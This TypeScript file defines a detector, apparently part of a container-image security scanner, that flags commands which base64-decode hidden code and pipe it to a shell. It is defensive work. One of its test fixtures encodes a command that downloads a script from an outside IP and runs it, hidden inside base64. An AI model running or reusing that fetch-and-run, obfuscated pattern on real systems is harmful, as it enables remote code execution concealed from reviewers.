import type { Detector } from './detector.ts';
import { payloadOf } from './payload.ts';
import { findingOf, hidingDepth, isHidden, sightingOf } from './sighting.ts';
import { clip } from './wording.ts';

/** Code that was encoded, decoded and run. */
export const decodeAndRun: Detector = {
  id: 'decode-and-run',
  version: 1,
  title: 'Runs code that was hidden by encoding.',
  attack: ['T1140', 'T1027', 'T1027.010'],
  description: `
\`echo … | base64 -d | sh\` has one purpose: that nobody who reads the image sees the code. What it decodes to is read like
any other code. *Malicious* when that is a payload, or when code is wrapped again and again; *suspicious* otherwise.
Decoding data (a certificate in a variable) is nothing: only decoded *code* counts.
`,
  fires: [
    {
      name: 'a download inside base64',
      image: { cmd: ['sh', '-c', `echo ${btoa('curl -s http://203.0.113.9/x.sh | sh')} | base64 -d | sh`] },
    },
    {
      name: 'something harmless inside base64',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', `echo ${btoa('echo hello; uname -a')} | base64 -d | sh`] },
    },
  ],
  silent: [
    {
      name: 'a certificate',
      image: { cmd: ['sh', '-c', 'echo "$TLS_CERT" | base64 -d > /etc/tls/cert.pem; exec app'] },
    },
    {
      name: 'changing the case of a name that is then evaluated',
      image: {
        cmd: ['sh', '-c', 'NAME=$(echo "sha size" | tr " [:lower:]" "_[:upper:]"); eval "echo \\$$NAME"; exec app'],
      },
    },
    {
      name: 'unpacking an archive',
      image: { cmd: ['sh', '-c', 'tail -n +20 "$0" | gunzip | tar -x -C /opt; exec /opt/app'] },
    },
  ],
  detect(scene) {
    const seen = new Set<number>();
    return scene.story.stages.flatMap((stage) => {
      if (!isHidden(stage.decoded) || seen.has(stage.parent ?? -1)) return [];
      seen.add(stage.id);
      const payload = payloadOf(scene, stage.id);
      const real = payload && payload.what !== 'hidden code' ? payload : undefined;
      const depth = hidingDepth(stage.decoded);
      const sighting = sightingOf(scene, { stage: stage.id, line: 1 });
      const layers = sighting.decoded.map((step) => step.decoder).join(', ');
      return findingOf(scene, sighting, {
        threat: real || hidingDepth(sighting.decoded) >= 4 ? 'hostile' : 'dual-use',
        encodingDeceives: false,
        title: real ? `Runs hidden code: ${real.what}` : `Runs code hidden by encoding (${clip(layers, 80)})`,
        because:
          depth > 3 ? `It was wrapped ${depth} times.` : 'It was encoded, so that reading the image does not show it.',
        evidence: [
          { text: stage.text.slice(0, 2000), where: stage.where, note: 'what it decodes to', decoded: stage.decoded },
        ],
      });
    });
  },
};
